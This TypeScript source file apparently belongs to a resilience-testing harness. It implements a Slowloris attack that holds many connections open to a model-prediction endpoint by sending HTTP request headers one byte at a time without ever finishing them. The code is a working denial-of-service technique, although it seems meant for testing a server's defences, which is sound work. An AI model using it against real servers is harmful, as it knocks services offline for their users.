/** Slowloris: request heads that come one byte a second and never end. */
import { Buffer } from 'node:buffer';
import { type Attack, hold } from './attack.ts';

/** @param count of connections */
export function slowHeads(count: number): Attack {
  const greeting = Buffer.from('POST /v1/models/digits:predict HTTP/1.1\r\nhost: attack\r\nx-slow: ');
  return (target, seconds, signal) => hold(target, seconds, signal, { count, greeting, drip: Buffer.from('a') });
}
